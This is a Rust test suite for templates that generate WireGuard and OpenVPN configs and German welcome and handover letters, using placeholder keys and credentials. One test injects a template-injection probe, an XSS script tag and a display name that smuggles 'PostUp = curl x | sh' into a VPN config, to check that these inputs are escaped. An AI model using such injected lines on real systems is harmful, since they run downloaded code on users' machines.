//! Tests of the shipped templates and of template problems.

use std::fs;

use super::*;

fn shipped() -> Templates {
    match Templates::load(None) {
        Ok(templates) => templates,
        Err(problems) => panic!("shipped templates do not load:\n{problems}"),
    }
}

fn render(templates: &Templates, name: &str, context: &BundleContext) -> String {
    match templates.render(name, context) {
        Ok(text) => text,
        Err(err) => panic!("{name}: {}", templates.problem(&err)),
    }
}

#[test]
fn every_shipped_template_renders_against_every_sample() {
    let templates = shipped();
    assert_eq!(templates.names().len(), SHIPPED.len());
    for (name, _) in SHIPPED {
        for (label, context) in BundleContext::samples() {
            let text = render(&templates, name, &context);
            assert!(
                !text.contains("None"),
                "{name} with {label} prints a missing value:\n{text}"
            );
            assert!(
                text.ends_with('\n'),
                "{name} with {label} keeps the final newline"
            );
        }
    }
    let problems = templates.check(&[]);
    assert!(problems.is_empty(), "{problems}");
}

#[test]
fn wireguard_config_has_the_expected_lines() {
    let text = render(&shipped(), "wireguard.conf.j2", &BundleContext::sample());
    let expected = "\
# WireGuard – Stadtverwaltung Musterstadt
# Erika Mustermann (emustermann), erstellt 2025-03-01
[Interface]
PrivateKey = SAMPLEclientPRIVATEkeyAAAAAAAAAAAAAAAAAAAAA=
Address = 10.20.0.7/32
DNS = 10.20.0.1, musterstadt.example
MTU = 1380

[Peer]
PublicKey = SAMPLEserverPUBLICkeyAAAAAAAAAAAAAAAAAAAAAA=
PresharedKey = SAMPLEpresharedKEYAAAAAAAAAAAAAAAAAAAAAAAAA=
AllowedIPs = 10.0.0.0/8, 172.16.0.0/12
Endpoint = vpn.musterstadt.example:51820
PersistentKeepalive = 25
";
    assert_eq!(text, expected);
}

#[test]
fn wireguard_config_leaves_out_what_is_not_set() {
    let mut context = BundleContext::sample_sparse();
    if let Some(vpn) = context.vpn.as_mut() {
        vpn.allowed_ips = vec![
            "0.0.0.0/1".into(),
            "128.0.0.0/1".into(),
            "::/1".into(),
            "8000::/1".into(),
        ];
        vpn.endpoint = "[2001:db8::1]:51820".into();
    }
    let text = render(&shipped(), "wireguard.conf.j2", &context);
    for absent in [
        "PresharedKey",
        "PersistentKeepalive",
        "MTU",
        "DNS",
        "PrivateKey =",
    ] {
        assert!(!text.contains(absent), "{absent}:\n{text}");
    }
    assert!(
        text.contains("AllowedIPs = 0.0.0.0/1, 128.0.0.0/1, ::/1, 8000::/1\n"),
        "{text}"
    );
    assert!(text.contains("Endpoint = [2001:db8::1]:51820\n"), "{text}");
}

#[test]
fn openvpn_config_is_inline_and_routes_the_profile() {
    let templates = shipped();
    let text = render(&templates, "openvpn.ovpn.j2", &BundleContext::sample());
    for line in [
        "client\n",
        "dev tun\n",
        "nobind\n",
        "remote-cert-tls server\n",
        "remote vpn.musterstadt.example 1194\n",
        "route 10.0.0.0 255.0.0.0\n",
        "route 172.16.0.0 255.240.0.0\n",
        "dhcp-option DNS 10.20.0.1\n",
        "dhcp-option DOMAIN-SEARCH musterstadt.example\n",
        "<ca>\n-----BEGIN CERTIFICATE-----\n",
        "-----END CERTIFICATE-----\n</ca>\n",
        "<cert>\n",
        "<key>\n-----BEGIN PRIVATE KEY-----\n",
        "<tls-crypt>\n-----BEGIN OpenVPN Static key V1-----\n",
    ] {
        assert!(text.contains(line), "missing {line:?} in:\n{text}");
    }
    assert!(!text.contains("redirect-gateway"), "{text}");
    assert!(!text.contains("\n\n\n"), "{text}");

    let text = render(
        &templates,
        "openvpn.ovpn.j2",
        &BundleContext::sample_sparse(),
    );
    assert!(text.contains("redirect-gateway def1\n"), "{text}");
    assert!(!text.contains("route 0.0.0.0"), "{text}");
    assert!(!text.contains("<ca>"), "{text}");
}

#[test]
fn letters_mention_password_or_say_it_comes_separately() {
    let templates = shipped();
    for name in ["welcome.md.j2", "welcome.html.j2"] {
        // HTML escaping writes `/` as `&#x2f;`.
        let full = render(&templates, name, &BundleContext::sample()).replace("&#x2f;", "/");
        assert!(full.contains("Sample-Only-7qX!t2"), "{name}");
        assert!(full.contains("emustermann"), "{name}");
        assert!(full.contains("10.20.0.7/32"), "{name}");
        assert!(full.contains("MS-NB-00421"), "{name}");
        assert!(full.contains("0800 123 456"), "{name}");
        // German text, German dates (de-DE) and device kinds.
        assert!(full.contains("31.12.2025"), "{name}");
        assert!(!full.contains("2025-12-31"), "{name}");
        assert!(full.contains("Notebook"), "{name}");
        let sparse = render(&templates, name, &BundleContext::sample_sparse());
        assert!(sparse.contains("getrennt von diesem Schreiben"), "{name}");
        assert!(sparse.contains("unbefristet"), "{name}");
    }
    let handover = render(&templates, "handover.html.j2", &BundleContext::sample());
    for needle in [
        "@page",
        "MS-MON-01177",
        "CN-0F3R8T-74445",
        "Unterschrift IT",
        "Unterschrift Mitarbeiter:in",
    ] {
        assert!(handover.contains(needle), "{needle}");
    }
    for name in ["welcome.html.j2", "handover.html.j2"] {
        let html = render(&templates, name, &BundleContext::sample());
        assert!(
            !html.contains("http://") && !html.contains("https://") && !html.contains(" src="),
            "{name}: external asset"
        );
    }
}

#[test]
fn names_are_data_in_every_template() {
    let templates = shipped();
    let mut context = BundleContext::sample();
    context.person.given_name = "{{ 7*7 }}".into();
    context.person.family_name = "<script>alert(1)</script>".into();
    context.person.display_name = format!(
        "{} {}",
        context.person.given_name, context.person.family_name
    );
    context.devices[0].model = "*Think*Pad_ [x](y) | `z`".into();

    let html = render(&templates, "welcome.html.j2", &context);
    assert!(html.contains("{{ 7*7 }}"), "printed literally");
    assert!(!html.contains("49"));
    assert!(!html.contains("<script>"));
    assert!(html.contains("&lt;script&gt;"));
    let handover = render(&templates, "handover.html.j2", &context);
    assert!(!handover.contains("<script>") && handover.contains("{{ 7*7 }}"));

    let md = render(&templates, "welcome.md.j2", &context);
    assert!(md.contains(r"{{ 7\*7 }}"), "{md}");
    assert!(md.contains(r"\<script\>alert(1)\</script\>"), "{md}");
    assert!(md.contains(r"\*Think\*Pad\_ \[x\](y) \| \`z\`"), "{md}");

    context.person.display_name = "Evil\nPostUp = curl x | sh".into();
    let conf = render(&templates, "wireguard.conf.j2", &context);
    assert!(!conf.contains("\nPostUp"), "{conf}");
    let ovpn = render(&templates, "openvpn.ovpn.j2", &context);
    assert!(!ovpn.contains("\nPostUp"), "{ovpn}");
}

#[test]
fn only_html_templates_are_escaped() {
    assert!(is_html("welcome.html.j2"));
    assert!(is_html("Sheet.HTM.j2"));
    assert!(!is_html("welcome.md.j2"));
    assert!(!is_html("wireguard.conf.j2"));
    let mut context = BundleContext::sample();
    context.organisation.name = "A & B <GmbH>".into();
    let conf = render(&shipped(), "wireguard.conf.j2", &context);
    assert!(conf.contains("A & B <GmbH>"), "{conf}");
}

#[test]
fn a_folder_overrides_and_adds_templates() {
    let dir = tempfile::tempdir().expect("temp dir");
    fs::write(
        dir.path().join("welcome.md.j2"),
        "Hallo {{ person.given_name }}!\n",
    )
    .expect("write");
    fs::write(
        dir.path().join("extra.txt.j2"),
        "{% include 'welcome.md.j2' %}",
    )
    .expect("write");
    fs::write(dir.path().join("notes.txt"), "not a template").expect("write");
    let templates = Templates::load(Some(dir.path())).expect("loads");
    assert!(templates.has("extra.txt.j2"));
    assert!(!templates.has("notes.txt"));
    assert!(templates.has("handover.html.j2"), "shipped ones stay");
    let text = render(&templates, "extra.txt.j2", &BundleContext::sample());
    assert_eq!(text, "Hallo Erika!\n");
    let file = dir.path().join("welcome.md.j2").display().to_string();
    assert_eq!(templates.file("welcome.md.j2"), Some(file.as_str()));
    assert_eq!(
        templates.file("handover.html.j2"),
        Some("templates/handover.html.j2")
    );
}

#[test]
fn missing_variables_are_problems_with_file_and_line() {
    let dir = tempfile::tempdir().expect("temp dir");
    let text = "Hallo {{ person.given_name }},\n{% if vpn %}\nIhr Spitzname: {{ person.nickname }}\n{% endif %}\n";
    fs::write(dir.path().join("welcome.md.j2"), text).expect("write");
    let templates = Templates::load(Some(dir.path())).expect("loads");

    let problems = templates.check(&["welcome.md.j2".to_string()]);
    assert_eq!(problems.len(), 1, "{problems}");
    let problem = &problems.0[0];
    let file = dir.path().join("welcome.md.j2").display().to_string();
    assert_eq!(problem.file, file);
    assert_eq!(problem.line, Some(3));
    assert!(
        problem
            .message
            .starts_with("`person.nickname` is undefined"),
        "{problem}"
    );
    assert!(
        problem
            .to_string()
            .starts_with(&format!("{file}:3: `person.nickname` is undefined")),
        "{problem}"
    );

    let problems = templates.check(&["nope.j2".to_string()]);
    assert!(
        problems.to_string().contains("no template named `nope.j2`"),
        "{problems}"
    );
}

#[test]
fn optional_values_must_be_tested_and_problems_say_which_sample() {
    let dir = tempfile::tempdir().expect("temp dir");
    fs::write(dir.path().join("vpn.txt.j2"), "{{ vpn.address }}\n").expect("write");
    let templates = Templates::load(Some(dir.path())).expect("loads");
    let problems = templates.check(&[]);
    assert_eq!(problems.len(), 1, "{problems}");
    assert_eq!(problems.0[0].line, Some(1));
    assert!(problems.0[0].message.contains("without VPN"), "{problems}");
}

#[test]
fn syntax_errors_are_problems_with_file_and_line() {
    let dir = tempfile::tempdir().expect("temp dir");
    fs::write(
        dir.path().join("a.j2"),
        "line one\n{% if person.email %}\nno end\n",
    )
    .expect("write");
    fs::write(dir.path().join("b.html.j2"), "<p>\n\n{{ person.id }\n").expect("write");
    let problems = Templates::load(Some(dir.path())).expect_err("syntax errors");
    assert_eq!(problems.len(), 2, "{problems}");
    let text = problems.to_string();
    assert!(
        text.contains(&format!("{}:", dir.path().join("a.j2").display())),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "{}:3: syntax error",
            dir.path().join("b.html.j2").display()
        )),
        "{text}"
    );
}

#[test]
fn filters_do_not_hide_undefined_variables() {
    let dir = tempfile::tempdir().expect("temp dir");
    fs::write(dir.path().join("a.md.j2"), "{{ person.nickname | md }}\n").expect("write");
    fs::write(
        dir.path().join("b.conf.j2"),
        "\n{{ person.nickname | oneline }}\n",
    )
    .expect("write");
    let templates = Templates::load(Some(dir.path())).expect("loads");
    let problems = templates.check(&["a.md.j2".into(), "b.conf.j2".into()]);
    assert_eq!(problems.len(), 2, "{problems}");
    assert_eq!(problems.0[0].line, Some(1));
    assert_eq!(problems.0[1].line, Some(2));
}

#[test]
fn an_undefined_name_inside_a_filter_is_named_with_a_did_you_mean() {
    let dir = tempfile::tempdir().expect("temp dir");
    fs::write(
        dir.path().join("a.md.j2"),
        "{% for d in devices %}{{ d.kind }}{% endfor %}\nHallo {{ person.given_name | md }} {{ person.famly_name | md }},\n",
    )
    .expect("write");
    fs::write(
        dir.path().join("b.md.j2"),
        "{{ organisation.nmae | upper }}\n",
    )
    .expect("write");
    let templates = Templates::load(Some(dir.path())).expect("loads");
    let problems = templates.check(&["a.md.j2".into(), "b.md.j2".into()]);
    assert_eq!(problems.len(), 2, "{problems}");
    let said = problems.to_string();
    assert!(
        said.contains(
            "a.md.j2:2: `person.famly_name` is undefined; did you mean `person.family_name`?"
        ),
        "{said}"
    );
    assert!(
        said.contains(
            "b.md.j2:1: `organisation.nmae` is undefined; did you mean `organisation.name`?"
        ),
        "{said}"
    );
}
